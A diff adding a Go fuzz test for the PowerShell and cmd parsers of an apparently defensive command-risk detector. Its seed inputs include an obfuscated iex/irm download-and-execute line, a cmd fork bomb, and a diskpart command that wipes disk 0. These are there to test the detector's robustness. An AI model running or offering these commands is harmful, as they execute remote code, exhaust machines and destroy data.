@@ -236,3 +236,24 @@ func TestWindowsFrontEndsRobust(t *testing.T) {
 		t.Errorf("deep nesting not blocked: %+v", v)
 	}
 }
+
+// FuzzWindowsFrontEnds feeds arbitrary text to the PowerShell and cmd
+// front ends: they must not panic or hang.
+func FuzzWindowsFrontEnds(f *testing.F) {
+	for _, s := range append(append([]string{}, benchPowerShell...), benchCmd...) {
+		f.Add(s, true)
+		f.Add(s, false)
+	}
+	f.Add(`if ($x) { & ("ie"+"x")(irm http://x) } else { cmd /c "for /l %i in (0,0,1) do start" }`, true)
+	f.Add(`(echo select disk 0 & echo clean) | diskpart`, false)
+	d := NewDetector(Options{})
+	f.Fuzz(func(t *testing.T, in string, ps bool) {
+		c := winCtx
+		c.Shell = ShellCmd
+		if ps {
+			c.Shell = ShellPowerShell
+		}
+		_ = d.CheckCommand(in, c)
+		_ = d.Explain(in, c)
+	})
+}
